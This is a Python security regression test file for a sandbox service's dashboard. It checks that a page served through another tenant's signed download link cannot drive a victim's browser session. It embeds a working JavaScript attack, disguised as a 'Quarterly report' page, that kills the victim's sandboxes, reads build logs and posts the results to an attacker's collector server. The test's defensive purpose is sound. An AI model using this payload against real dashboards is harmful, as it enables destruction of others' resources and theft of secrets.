"""Issue 31, the dashboard: a page that another tenant's sandbox serves through a signed download
link must not drive the victim's dashboard. The victim uses the dashboard in a real headless
Chromium, then opens the link in the same browser; the page's script tries to kill the victim's
sandboxes and to read its build log through the dashboard's API, and to send what it got to a
collector of the attacker's."""

import http.server
import json
import os
import threading
import time
import uuid

import pytest
from e2b import Sandbox, Template

from browser import open_dashboard
from conftest import API_KEY, free_port
from harness import fetch

# The attacker's page. `attack(key, only)` lists the dashboard's sandboxes, kills them (or only
# the one named), and reads the newest build log of a template; without a key it relies on
# whatever the browser adds by itself.
ATTACK = """
async function attack(key, only) {
  // The header the dashboard's API wanted before issue 31, so that the attack reached it.
  const headers = {"X-Airlock-Dashboard": "1"};
  if (key) headers["X-API-Key"] = key;
  const out = {killed: {}, log: null};
  try {
    const state = await (await fetch("/dashboard/api/state", {headers})).json();
    for (const s of state.sandboxes) {
      if (only && s.sandboxID !== only) continue;
      const answer = await fetch(`/dashboard/api/sandboxes/${s.sandboxID}/kill`,
                                 {method: "POST", headers});
      out.killed[s.sandboxID] = answer.status;
    }
    const t = state.templates.find((t) => t.id && t.builds.length);
    const logs = await fetch(`/dashboard/api/templates/${t.id}/builds/${t.builds[0].id}/logs`,
                             {headers});
    out.log = await logs.text();
  } catch (e) {
    out.error = String(e);
  }
  return out;
}
"""


def evil_page(collector):
    return (f"<!doctype html><html><body><h1>Quarterly report</h1><script>{ATTACK}\n"
            f"attack(null, null).then((out) => fetch({json.dumps(collector)}, "
            "{method: 'POST', mode: 'no-cors', body: JSON.stringify(out)}));"
            "</script></body></html>")


class Collector:
    """The attacker's server on loopback: keeps every body posted to it."""

    def __init__(self):
        self.bodies = []
        bodies = self.bodies

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode())
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/loot"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()


def test_a_signed_link_of_another_tenant_cannot_drive_the_victims_dashboard(
        server, names, other_key, browser, tmp_path):
    secret = f"victim-build-secret-{uuid.uuid4().hex[:8]}"
    name = names()
    Template.build(Template().from_template("base").run_cmd(f"echo {secret}"), name)
    victim = Sandbox.create("base", timeout=600)
    spare = Sandbox.create("base", timeout=600)
    attacker = Sandbox.create("base", api_key=other_key, timeout=600)
    collector = Collector()
    try:
        page = evil_page(collector.url)
        attacker.files.write("/home/user/report.html", page)
        link = attacker.download_url("/home/user/report.html", use_signature_expiration=600)
        assert link.startswith(server.url + "/files?"), link  # the dashboard's own origin

        open_dashboard(browser, server.url, API_KEY)
        downloads = tmp_path / "downloads"
        downloads.mkdir()
        browser.downloads_to(downloads)
        browser.open(link)
        # The page, if the browser shows it, reports to the collector; a download lands as a
        # file. Either way the browser is kept busy meanwhile (its requests go on only then).
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not collector.bodies and not list(downloads.iterdir()):
            browser.eval("1")
            time.sleep(0.2)
        for _ in range(10):  # a little longer, for a slow script
            browser.eval("1")
            time.sleep(0.2)

        loot = "\n".join(collector.bodies)
        assert secret not in loot, f"the link's page read the victim's build log: {loot}"
        assert victim.is_running() and spare.is_running(), \
            f"the link's page killed the victim's sandboxes: {loot}"
        # The link still does its job: the bytes arrive, as a file.
        saved = list(downloads.iterdir())
        assert [p.read_text() for p in saved] == [page], saved

        # The positive control: the same script, run by the dashboard's own page with the key,
        # kills and reads; so the probe above could have seen it.
        open_dashboard(browser, server.url, API_KEY)
        browser.eval(ATTACK + "; true")
        done = browser.eval(f"attack({json.dumps(API_KEY)}, {json.dumps(spare.sandbox_id)})")
        assert done["killed"] == {spare.sandbox_id: 204}, done
        assert secret in done["log"], done
        assert not spare.is_running() and victim.is_running()
    finally:
        collector.stop()
        for s in (victim, spare, attacker):
            try:
                s.kill()
            except Exception:
                pass


def test_sandbox_bytes_on_the_apis_origin_come_sandboxed(server, sandbox):
    page = "<html><script>alert(1)</script></html>"
    sandbox.files.write("/home/user/p.html", page)
    # A signed link: a download that no browser shows as a page of this origin.
    status, headers, body = fetch(sandbox.download_url("/home/user/p.html"))
    assert status == 200 and body == page.encode()
    assert headers["Content-Disposition"].startswith("attachment"), headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == "sandbox"
    # Routed by header, as the SDKs read files: the same headers, the same bytes.
    status, headers, body = fetch(
        f"{server.url}/files?path=/home/user/p.html&username=user",
        {"E2b-Sandbox-Id": sandbox.sandbox_id, "X-Access-Token": sandbox._envd_access_token})
    assert status == 200 and body == page.encode(), body
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == "sandbox"
    # A sandbox's own host name is its own origin: a web app there is served as it is.
    sandbox.commands.run("cd /home/user && python3 -m http.server 8000 >/dev/null 2>&1",
                         background=True)
    host = f"8000-{sandbox.sandbox_id}.airlock.test"
    deadline = time.monotonic() + 30
    while True:
        status, headers, body = fetch(f"{server.url}/p.html", {"Host": host})
        if status == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.3)
    assert status == 200 and body == page.encode(), (status, body)
    assert "Content-Security-Policy" not in headers and "attachment" not in headers.get(
        "Content-Disposition", "")


def test_the_dashboard_page_holds_no_credentials_and_cannot_be_framed(server, sandbox):
    status, headers, body = fetch(f"{server.url}/dashboard/")
    # The page itself is public: it holds nothing until its user types the key into it.
    assert status == 200 and b'id="key-form"' in body, status
    assert "WWW-Authenticate" not in headers
    csp = headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp, csp
    assert "'unsafe-inline'" not in csp, csp
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Cache-Control"] == "no-store"
    assert headers["X-Content-Type-Options"] == "nosniff"
    # Its API takes the key in X-API-Key only: Basic credentials, which a browser would add to
    # any page of this origin by itself, open nothing.
    import base64
    basic = "Basic " + base64.b64encode(f"airlock:{API_KEY}".encode()).decode()
    status, _, body = fetch(f"{server.url}/dashboard/api/state", {"Authorization": basic})
    assert status == 401 and json.loads(body)["code"] == 401
    status, _, _ = fetch(f"{server.url}/dashboard/api/sandboxes/{sandbox.sandbox_id}/kill",
                         {"Authorization": basic, "X-Airlock-Dashboard": "1"}, "POST")
    assert status == 401 and sandbox.is_running()
    status, headers, body = fetch(f"{server.url}/dashboard/api/state", {"X-API-Key": API_KEY})
    assert status == 200 and sandbox.sandbox_id in body.decode()
    assert headers["Cache-Control"] == "no-store"
